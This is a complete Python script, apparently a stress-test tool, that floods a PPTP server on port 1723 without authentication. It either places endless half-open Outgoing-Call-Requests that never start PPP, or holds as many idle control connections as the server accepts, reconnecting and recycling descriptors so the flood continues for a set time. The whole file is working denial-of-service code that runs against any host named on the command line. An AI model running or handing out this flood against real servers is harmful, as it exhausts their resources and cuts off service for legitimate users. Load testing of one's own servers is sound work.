#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""An unauthenticated PPTP flood from one address, for a fixed time.

  pptpflood.py HOST SOURCE SECONDS calls|conns

calls: control connections that each place Outgoing-Call-Requests as fast as the server
answers them and never start PPP (every call stays half-open until the server ends it);
a connection the server closes is opened again at once.
conns: as many control connections as the server accepts, each after its SCCRQ silent;
when this process runs out of descriptors, those the server closed are closed here.

Prints one line of counts as key=value: connections opened, calls the server connected,
calls it refused (busy or otherwise), connections it closed (calls: and attempts that
failed). Only HOST is contacted, from SOURCE (an address of this host).
"""
import errno
import socket
import struct
import sys
import time

MAGIC = 0x1A2B3C4D


def msg(ctype, body):
    return struct.pack(">HHIHH", 12 + len(body), 1, MAGIC, ctype, 0) + body


SCCRQ = msg(1, struct.pack(">HHIIHH64s64s", 0x0100, 0, 3, 3, 0, 1, b"flood", b"tests"))


def ocrq(call_id):
    return msg(7, struct.pack(">HHIIIIHHHH64s64s", call_id, call_id, 2400, 10000000, 3, 3,
                              64, 0, 0, 0, b"", b""))


def connect(host, source):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((source, 0))
    s.settimeout(2)
    s.connect((host, 1723))
    s.sendall(SCCRQ)
    return s


def read_msg(s):
    """One whole message (type, body), or None if the connection ended."""
    head = b""
    while len(head) < 12:
        chunk = s.recv(12 - len(head))
        if not chunk:
            return None
        head += chunk
    length, _, _, ctype, _ = struct.unpack(">HHIHH", head)
    body = b""
    while len(body) < length - 12:
        chunk = s.recv(length - 12 - len(body))
        if not chunk:
            return None
        body += chunk
    return ctype, body


def flood_calls(host, source, end, n):
    call_id = 1
    while time.time() < end:
        try:
            s = connect(host, source)
            n["conns"] += 1
            while time.time() < end:
                call_id = call_id % 65535 + 1
                s.sendall(ocrq(call_id))
                m = read_msg(s)
                while m and m[0] not in (8, 3):	# OCRP, or the server's StopCCRQ
                    m = read_msg(s)
                if not m or m[0] == 3:
                    n["closed"] += 1
                    break
                if m[1][4] == 1:
                    n["connected"] += 1
                else:
                    n["refused"] += 1
            s.close()
        except OSError:
            n["closed"] += 1
            time.sleep(0.01)


def closed_by_server(s):
    """True if the server has closed s (its SCCRP, if any, is read and dropped)."""
    try:
        s.setblocking(False)
        while True:
            data = s.recv(4096)
            if data == b"":
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def reap(held, n):
    """Close what the server closed, so the flood goes on after the descriptors run out."""
    alive = []
    for s in held:
        if closed_by_server(s):
            n["closed"] += 1
            s.close()
        else:
            alive.append(s)
    return alive


def flood_conns(host, source, end, n):
    held = []
    while time.time() < end:
        try:
            held.append(connect(host, source))
            n["conns"] += 1
        except OSError as e:
            if e.errno == errno.EMFILE:
                held = reap(held, n)
            time.sleep(0.01)
    for s in reap(held, n):
        s.close()


def main():
    host, source, seconds, mode = sys.argv[1], sys.argv[2], float(sys.argv[3]), sys.argv[4]
    n = {"conns": 0, "connected": 0, "refused": 0, "closed": 0}
    end = time.time() + seconds
    (flood_calls if mode == "calls" else flood_conns)(host, source, end, n)
    print(" ".join(f"{k}={v}" for k, v in n.items()))


if __name__ == "__main__":
    main()
